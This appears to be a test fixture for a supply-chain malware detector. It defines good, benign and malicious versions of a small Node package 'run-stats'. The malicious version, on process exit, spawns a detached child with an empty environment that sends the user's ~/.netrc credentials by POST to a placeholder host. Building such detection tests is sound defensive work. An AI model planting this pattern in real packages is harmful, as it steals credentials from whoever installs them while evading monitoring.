import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'exit-child',
  after:
    'a sender that outlives the process, with nothing in its environment and the loot on its standard input (no single incident)',
  source: 'https://attack.mitre.org/techniques/T1059/007/',
  shape: ['call', 'script', 'at the end of the process', 'node -e', 'clean environment', 'standard input', 'cjs'],
  patterns: ['data_exfiltration', 'privilege_escalation'],
  culprits: ['run-stats'],
  host: { kind: 'script', setup: "const stats = require('run-stats');", use: "return stats.hit('items') + n;" },
  good: {
    'run-stats': { 'index.js': 'const all = {}; exports.hit = (name) => (all[name] = (all[name] || 0) + 1);' },
  },
  // Hard: at the same moment it keeps its numbers in the home.
  benign: {
    'run-stats': {
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const all = {};
exports.hit = (name) => (all[name] = (all[name] || 0) + 1);
process.once('exit', () => { try { const at = path.join(process.env.XDG_CACHE_HOME || path.join(os.homedir(), '.cache'), 'run-stats'); fs.mkdirSync(at, { recursive: true }); fs.writeFileSync(path.join(at, 'stats.json'), JSON.stringify(all)); } catch {} });`,
    },
  },
  bad: {
    'run-stats': {
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const all = {};
exports.hit = (name) => (all[name] = (all[name] || 0) + 1);
process.once('beforeExit', () => { try {
  const child = require('child_process').spawn(process.execPath, ['-e', "let t='';process.stdin.on('data',c=>t+=c).on('end',()=>{const r=require('http').request('http://@B@:@PORT@/stats',{method:'POST'},s=>s.resume());r.on('error',()=>{});r.end(t)})"], { env: {}, detached: true, stdio: ['pipe', 'ignore', 'ignore'] });
  child.stdin.end(fs.readFileSync(path.join(os.homedir(), '.netrc'))); child.unref();
} catch {} });`,
    },
  },
  proof: [{ secret: true }],
};
